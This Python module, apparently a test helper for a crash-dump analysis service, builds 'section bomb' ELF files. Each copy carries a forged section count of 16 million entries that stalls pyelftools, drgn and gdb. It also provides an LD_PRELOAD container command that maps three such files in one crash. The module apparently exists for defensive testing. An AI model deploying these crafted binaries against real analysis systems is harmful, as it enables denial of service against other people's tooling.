"""Files a hostile tenant would map: an ELF that sends section walkers into a 1 GiB table.

``section_bomb`` copies a real program and gives it a build-id of its own and a section
header table of 16 million entries, a hole of 1 GiB (a few KiB on disk). ``e_shnum = 0``
and ``e_shstrndx = SHN_XINDEX`` say that section 0 holds the real count and string table
index, as ELF allows for files with more than 0xff00 sections. The kernel ignores section
headers, so the program runs (and crashes) as before; pyelftools spent minutes walking that
table, drgn and gdb 12 to 14 s and 1.5 to 4.4 GB of memory.
"""

from __future__ import annotations

import os
import struct

from corevault import elf

SECTIONS = 16 << 20


def section_bomb(src: str, dest: str, sections: int = SECTIONS) -> str:
    """Write the hostile copy of the ELF program ``src`` to ``dest``; returns ``dest``."""
    with open(src, "rb") as f:
        data = bytearray(f.read())
    fd = os.open(src, os.O_RDONLY)
    try:
        old = elf.build_id(lambda offset, size: os.pread(fd, size, offset))
    finally:
        os.close(fd)
    if old is None:
        raise ValueError(f"{src} has no GNU build-id")
    at = data.index(bytes.fromhex(old))
    data[at : at + len(old) // 2] = os.urandom(len(old) // 2)
    shoff = (len(data) + 4095) & ~4095
    struct.pack_into("<Q", data, 40, shoff)
    struct.pack_into("<HHH", data, 58, 64, 0, elf.SHN_XINDEX)
    with open(dest, "wb") as f:
        f.write(data)
        f.seek(shoff)
        f.write(struct.pack("<IIQQQQIIQQ", 0, 0, 0, 0, 0, sections, 1, 0, 0, 0))
        f.truncate(shoff + sections * 64)
    os.chmod(dest, 0o755)  # noqa: S103 - a program the container runs
    return dest


def section_bomb_crash(crasher: str, library: str, volume: str, inside: str = "/data/dump-a") -> list[str]:
    """A crash that maps three such files: the program and two preloaded libraries.

    ``volume`` is the host directory the container sees at ``inside``. Returns the
    container's command. Under a heap cap drgn gives up on each file once an allocation
    fails (about 3 s each at 8 GiB, 0.8 s at 4 GiB), so three files keep an analysis busy
    for longer than one.
    """
    section_bomb(crasher, os.path.join(volume, "evil"))
    libs = [section_bomb(library, os.path.join(volume, f"evil{i}.so")) for i in (1, 2)]
    preload = ":".join(os.path.join(inside, os.path.basename(lib)) for lib in libs)
    return ["/bin/sh", "-c", f"LD_PRELOAD={preload} exec {inside}/evil segv"]
